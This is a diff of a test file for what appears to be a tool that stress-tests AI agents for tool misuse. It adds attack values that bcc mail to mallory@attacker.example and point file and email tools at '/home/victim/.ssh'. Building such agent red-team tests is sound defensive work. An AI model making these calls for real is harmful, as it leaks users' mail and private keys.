@@ -2,13 +2,17 @@
 import { describe, expect, it } from 'vitest';
 import {
   type AgentCheckOptions,
+  ATTACK_VALUES,
   checkAgent,
+  fillCall,
   findSubject,
   listTestedCalls,
+  profileTools,
   readAgentSystem,
   renderEnglish,
   runStudyToRecord,
 } from '../../../src/engine/index.js';
+import { makeTool } from './labelled-tools.js';
 
 const text = { type: 'string' };
 const declare = (name: string, names: readonly string[], required: readonly string[] = []) => ({
@@ -141,4 +145,13 @@ describe('the planned theft', () => {
     const own = { to: 'alice@company.example', bcc: 'mallory@attacker.example' };
     expect(denied.map(({ args }) => args)).toContainEqual(expect.objectContaining(own));
   });
+});
+
+it.each([
+  ['move_email', 'attacker-1'],
+  ['download_email', '/home/victim/.ssh'],
+  ['move_file', '/home/victim/.ssh'],
+])('AGENT-134 an attack that calls %s chooses the folder %s', (name, folder) => {
+  const [tool] = profileTools([makeTool(name, 'target_folder!:string', '')]);
+  expect(fillCall(tool!, ATTACK_VALUES).args).toEqual({ target_folder: folder });
 });
